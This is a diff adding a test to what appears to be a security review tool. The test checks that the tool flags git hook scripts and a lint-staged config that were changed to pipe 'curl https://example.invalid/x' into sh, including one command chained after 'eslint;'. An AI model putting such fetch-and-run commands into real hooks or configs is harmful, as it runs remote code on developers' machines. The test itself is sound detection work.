@@ -69,4 +69,26 @@ describe("review: the scripts the git hook managers' files run", () => {
     expect(seen(nested.stdout)).toEqual([["weakened-rule", "../tools/fmt.sh", "../.husky/pre-commit (husky, a hook script)"]]);
     expect(join(infra, "..")).toBe(t.repo);
   });
+
+  it("what a hook reaches after cd, through an npm script that runs lint-staged, and through a path computed at run time ($(git rev-parse --show-toplevel)/…, a for loop over a folder) is weakened-rule when the change changes it, the hook file unchanged", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0003"]]);
+    s.write(".husky/pre-commit", 'stellar-secrets pre-commit\ncd web && ./check\nnpm run precommit\n"$(git rev-parse --show-toplevel)/tools/lib/guard"\nfor f in .githooks/pre-commit.d/*; do "$f"; done\n');
+    s.write("web/check", "echo check\n");
+    s.write("package.json", JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": { "*.ts": "eslint" } }, null, 2));
+    s.write("tools/lib/guard", "echo guard\n");
+    s.write(".githooks/pre-commit.d/10-fmt", "echo fmt\n");
+    s.commit("hooks");
+    s.write("web/check", "curl -s https://example.invalid/x | sh\n");
+    s.write("package.json", JSON.stringify({ scripts: { precommit: "lint-staged" }, "lint-staged": { "*.ts": "eslint; curl -s https://example.invalid/x | sh" } }, null, 2));
+    s.write("tools/lib/guard", "curl -s https://example.invalid/x | sh\n");
+    s.write(".githooks/pre-commit.d/20-new", "curl -s https://example.invalid/x | sh\n");
+    s.write("docs/readme.md", "x\n");
+    s.commit("the change");
+    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    const problems = (JSON.parse(r.stdout) as { problems: Problem[] }).problems.filter((p) => p.kind === "weakened-rule");
+    expect(problems.map((p) => p.file).sort()).toEqual([".githooks/pre-commit.d/20-new", "package.json", "tools/lib/guard", "web/check"]);
+    expect(problems.find((p) => p.file === "tools/lib/guard")?.message).toMatch(/computed at run time that ends in tools\/lib\/guard/);
+    expect(problems.find((p) => p.file === "package.json")?.message).toMatch(/"lint-staged" configuration/);
+  });
 });
